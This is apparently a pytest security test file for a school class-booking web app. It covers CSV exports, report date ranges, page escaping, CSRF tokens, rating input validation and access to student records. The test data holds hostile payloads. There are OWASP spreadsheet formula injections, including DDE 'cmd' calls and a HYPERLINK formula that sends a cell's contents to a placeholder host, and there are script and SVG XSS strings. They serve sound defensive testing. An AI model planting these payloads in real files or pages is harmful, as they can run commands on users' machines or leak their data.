"""The after-class and report surfaces under attack: names that are spreadsheet formulas in
the CSV exports, periods that try to escape their limit, markup in names on the pages and
charts, and forms posted without their CSRF token. On SQLite and PostgreSQL."""

from __future__ import annotations

import codecs
import csv
import io
import re
from datetime import date, timedelta

import pytest

from classroom.models import Role
from tests.conftest import School, SchoolFactory
from tests.helpers import new_class
from tests.report_school import seed
from tests.test_class_reports import over_class

# OWASP's list: what a spreadsheet reads as the start of a formula (or a DDE call).
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
async def test_names_that_are_formulas_stay_text_in_every_csv(school: School, formula: str) -> None:
    """A student and a tutor rename themselves to a formula; every CSV cell that starts like
    one is led by a quote (OWASP), so the coordinator's spreadsheet shows it as text."""
    seeded = await seed(school)
    for person in (seeded.students[3], seeded.ayu):
        visitor = await school.login(person)
        status, body = await visitor.api(
            "PATCH", "/api/v1/me", {"name": formula, "timezone": "Asia/Jakarta", "language": "en"}
        )
        assert status == 200, body
    coordinator = await school.login(seeded.coordinator)
    query = f"since={seeded.since}&until={seeded.until}"
    seen = 0
    for table in ("weeks", "lecturers", "pay", "pay-classes", "students"):
        async with coordinator.client.get(f"/reports/{table}.csv?{query}") as resp:
            assert resp.status == 200, await resp.text()
            rows = _rows(await resp.read())
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, row)
            seen += row.count("'" + formula)
    assert seen >= 3  # lecturers, pay and students name them


async def test_numbers_in_the_csv_stay_numbers(school: School) -> None:
    """Only text is quoted: amounts, hours and dates are left for the spreadsheet to read."""
    seeded = await seed(school)
    coordinator = await school.login(seeded.coordinator)
    async with coordinator.client.get(
        f"/reports/pay.csv?since={seeded.since}&until={seeded.until}"
    ) as resp:
        rows = _rows(await resp.read())
    assert rows[1][3:7] == ["3", "3.50", "340000.00", "IDR"], rows


LONG_AGO, FAR_AHEAD = date(1970, 1, 1), date(2999, 12, 31)


@pytest.mark.parametrize(
    "query",
    [f"since={LONG_AGO}", f"until={FAR_AHEAD}", f"since={FAR_AHEAD}", f"until={LONG_AGO}"],
)
async def test_one_end_of_a_period_alone_stays_within_366_days(school: School, query: str) -> None:
    """Only both ends were held to 366 days: ``since=1970-01-01`` alone asked for 56 years
    of the school. Every report, page and CSV answers for at most 366 days."""
    _, coordinator = await school.join(Role.COORDINATOR)
    _, student = await school.join(Role.STUDENT)
    tutor_user, tutor = await school.join(Role.TUTOR)
    for visitor, path in [
        (coordinator, "/api/v1/reports/school"),
        (coordinator, "/api/v1/reports/pay"),
        (coordinator, "/api/v1/attendance/no-shows"),
        (student, "/api/v1/me/progress"),
        (tutor, "/api/v1/me/progress"),
        (coordinator, f"/api/v1/people/{tutor_user.id}/progress"),
    ]:
        status, body = await visitor.api("GET", f"{path}?{query}")
        assert status == 200, (path, body)
        span = date.fromisoformat(body["until"]) - date.fromisoformat(body["since"])
        assert timedelta(0) <= span < timedelta(days=366), (path, body["since"], body["until"])
    for path in ("/reports", "/reports/attendance", "/reports/pay.csv"):
        assert (await coordinator.page(f"{path}?{query}"))[0] == 200, path


async def test_the_no_show_rates_keep_to_366_days_too(school: School) -> None:
    _, coordinator = await school.join(Role.COORDINATOR)
    query = f"since={LONG_AGO}&until={FAR_AHEAD}"
    status, body = await coordinator.api("GET", f"/api/v1/attendance/no-shows?{query}")
    assert status == 422 and "until" in body["error"]["fields"], body
    status, html = await coordinator.page(f"/reports/attendance?{query}")
    assert status == 422 and 'aria-describedby="e-until"' in html


MARKUP = "<script>alert(1)</script>\"'><svg onload=alert(2)>"


async def test_markup_in_names_is_text_on_every_report_page_and_chart(school: School) -> None:
    """A tutor and a student named with markup: the report (its charts' labels, titles and
    descriptions too), the attendance report, the rates and the progress pages show it as
    text."""
    seeded = await seed(school)
    s4 = seeded.students[3]
    for person in (s4, seeded.ayu):
        visitor = await school.login(person)
        status, body = await visitor.api(
            "PATCH", "/api/v1/me", {"name": MARKUP, "timezone": "Asia/Jakarta", "language": "id"}
        )
        assert status == 200, body
    coordinator = await school.login(seeded.coordinator)
    query = f"since={seeded.since}&until={seeded.until}"
    since = seeded.since - timedelta(days=7)
    shown = [
        f"/reports?{query}",
        f"/reports/attendance?{query}",
        "/rates",
        f"/people/{s4.id}/progress?since={since}",
        f"/people/{seeded.ayu.id}/progress?since={since}",
    ]
    for path in shown + [
        "/live",
        f"/classes/{seeded.lessons['L1']}",
        f"/classes/{seeded.lessons['L1']}/report",
        f"/classes/{seeded.lessons['L3']}/recap/{s4.id}",
    ]:
        status, html = await coordinator.page(path)
        assert status in (200, 404), (path, status)
        assert "<script>alert" not in html and "<svg onload" not in html, path
        if path in shown:
            assert "&lt;script&gt;alert(1)" in html or "\\u003cscript\\u003e" in html, path


async def test_every_state_changing_route_refuses_a_forged_csrf_token(school: School) -> None:
    """Every POST, PUT, PATCH and DELETE the app serves (the report, rating, rates,
    substitution and attendance forms among them, and any added later) is a 403 without
    the visitor's own token, before anything else looks at it."""
    _, coordinator = await school.join(Role.COORDINATOR)
    coordinator.csrf = "forged"
    checked = set()
    app = school.server.app
    for route in app.router.routes():
        if route.method not in ("POST", "PUT", "PATCH", "DELETE") or route.resource is None:
            continue
        info = route.resource.get_info()
        path = info.get("formatter") or info.get("path", "")
        if path.startswith("/socket.io"):
            continue
        concrete = re.sub(r"\{token\}", "1.1.x", re.sub(r"\{\w+_id\}", "1", path))
        status, _ = await coordinator.api(route.method, concrete, {})
        assert status == 403, (route.method, path, status)
        if route.method == "POST" and not path.startswith("/api/"):
            status, _, _ = await coordinator.form(concrete, {})
            assert status == 403, (path, status)
        checked.add(path)
    for path in ("/rates", "/classes/{lesson_id}/report", "/classes/{lesson_id}/rating",
                 "/substitute", "/classes/{lesson_id}/attendance/{user_id}"):  # fmt: skip
        assert path in checked, path


ODD_STARS = ["1e9", "NaN", "Infinity", "-1", "4.5", "٣", "99999999999999999999", "", " ", "5 stars"]


async def test_odd_stars_are_refused_on_the_field_by_the_form_and_the_api(
    school_with: SchoolFactory,
) -> None:
    c = await over_class(school_with)
    await c.close()
    path = f"/classes/{c.lesson_id}/rating"
    for stars in ODD_STARS:
        status, _, page = await c.ana[1].form(path, {"stars": stars, "comment": "ok"})
        assert status == 422 and 'id="e-stars"' in page, (stars, status)
        status, body = await c.ana[1].api("POST", c.path("/rating"), {"stars": stars})
        assert status == 422 and "stars" in body["error"]["fields"], (stars, body)
    for stars in (float("nan"), 1e308, -(2**63), 2**64, True, None, [5], {"n": 5}):
        status, body = await c.ana[1].api("POST", c.path("/rating"), {"stars": stars})
        assert status == 422 and "stars" in body["error"]["fields"], (stars, body)


async def test_true_is_not_an_id(school: School) -> None:
    """JSON true used to be read as 1: the first tutor's rate, a class of one seat."""
    _, coordinator = await school.join(Role.COORDINATOR)
    await school.person(Role.TUTOR)
    rate = {"tutor_id": True, "unit": "hour", "amount": "1", "effective_from": "2026-01-01"}
    status, body = await coordinator.api("POST", "/api/v1/rates", rate)
    assert status == 422 and body["error"]["fields"] == {"tutor_id": "Please enter a whole number"}


async def test_the_tutor_never_reads_a_students_rating_by_name(
    school_with: SchoolFactory,
) -> None:
    """The recap of a student is open to their tutor, but not the student's rating of that
    tutor; the student and the coordinators still see it."""
    c = await over_class(school_with)
    await c.close()
    ana = c.ana[0].id
    rating = {"stars": 2, "comment": "Too fast for me"}
    assert (await c.ana[1].api("POST", c.path("/rating"), rating))[0] == 201
    status, recap = await c.tutor.api("GET", c.path(f"/recap/{ana}"))
    assert status == 200 and recap["rating"] is None and recap["notes"], recap
    status, page = await c.tutor.page(f"/classes/{c.lesson_id}/recap/{ana}")
    assert status == 200 and "Too fast for me" not in page and 'id="rating"' not in page
    for visitor, path in ((c.ana[1], "/recap"), (c.setup.coordinator, f"/recap/{ana}")):
        status, recap = await visitor.api("GET", c.path(path))
        assert recap["rating"]["comment"] == "Too fast for me", (path, recap)
        status, page = await visitor.page(f"/classes/{c.lesson_id}{path}")
        assert "Too fast for me" in page, path


async def test_a_tutor_sees_the_progress_of_their_students_only_once_they_took_a_seat(
    school: School,
) -> None:
    """Joining a tutor's waitlist, or booking and cancelling in time, does not open a
    student's whole record (every class, no-show and late cancellation) to that tutor."""
    _, coordinator = await school.join(Role.COORDINATOR)
    tutor, tutor_visitor = await school.join(Role.TUTOR)
    full = (await new_class(coordinator, tutor_id=tutor.id, capacity=1))["lessons"][0]["id"]
    other = (await new_class(coordinator, 72, tutor_id=tutor.id))["lessons"][0]["id"]
    _, seated = await school.join(Role.STUDENT)
    assert (await seated.api("POST", f"/api/v1/classes/{full}/booking"))[0] == 201
    waiting_user, waiting = await school.join(Role.STUDENT)
    assert (await waiting.api("POST", f"/api/v1/classes/{full}/waitlist"))[0] == 201
    gone_user, gone = await school.join(Role.STUDENT)
    assert (await gone.api("POST", f"/api/v1/classes/{other}/booking"))[0] == 201
    assert (await gone.api("DELETE", f"/api/v1/classes/{other}/booking"))[0] in (200, 204)
    for student in (waiting_user, gone_user):
        path = f"/api/v1/people/{student.id}/progress"
        assert (await tutor_visitor.api("GET", path))[0] == 404, student.name
        assert (await tutor_visitor.page(f"/people/{student.id}/progress"))[0] == 404
    seated_id = seated.user["id"]
    status, _ = await tutor_visitor.api("GET", f"/api/v1/people/{seated_id}/progress")
    assert status == 200


HUGE = "9" * 30


@pytest.mark.parametrize(
    "path",
    [
        f"/people/{HUGE}/progress",
        f"/api/v1/people/{HUGE}/progress",
        f"/classes/{HUGE}/report",
        f"/api/v1/classes/{HUGE}/report",
        f"/classes/{HUGE}/recap/1",
        f"/classes/1/recap/{HUGE}",
        f"/api/v1/classes/{HUGE}/recap/{HUGE}",
        f"/api/v1/classes/{HUGE}/attendance",
        "/api/v1/people/2147483648/progress",
        "/people/0/progress",
        "/reports/" + "a" * 5000 + ".csv",
        "/reports?since=" + "2026-01-01" * 1000,
        "/api/v1/reports/pay?tutor_id=-1",
        f"/api/v1/reports/pay?tutor_id={HUGE}",
        "/api/v1/reports/school?since=2026-02-30",
        "/api/v1/reports/school?since=%00",
        "/api/v1/reports/school?since=２０２６-01-01",
    ],
)
async def test_ids_and_periods_out_of_range_are_a_4xx(school: School, path: str) -> None:
    _, coordinator = await school.join(Role.COORDINATOR)
    async with coordinator.client.get(path) as resp:
        assert 400 <= resp.status < 500, (path, resp.status, (await resp.text())[:300])


async def test_no_answer_may_be_framed_or_sniffed(school: School) -> None:
    """Pages, forms' answers, CSVs, JSON, errors and static files: none may be shown in
    another site's frame (clickjacking the coordinator's buttons) or read as another type."""
    _, coordinator = await school.join(Role.COORDINATOR)
    for method, path in [("GET", "/reports"), ("GET", "/reports/pay.csv"),
                         ("GET", "/api/v1/reports/school"), ("GET", "/classes/999999"),
                         ("GET", "/static/kelas.css"), ("GET", "/login"),
                         ("POST", "/rates")]:  # fmt: skip
        async with coordinator.client.request(method, path, allow_redirects=False) as resp:
            assert resp.headers.get("X-Frame-Options") == "DENY", (path, resp.status)
            assert "frame-ancestors 'none'" in resp.headers.get("Content-Security-Policy", "")
            assert resp.headers.get("X-Content-Type-Options") == "nosniff", path
            assert resp.headers.get("Referrer-Policy") == "same-origin", path
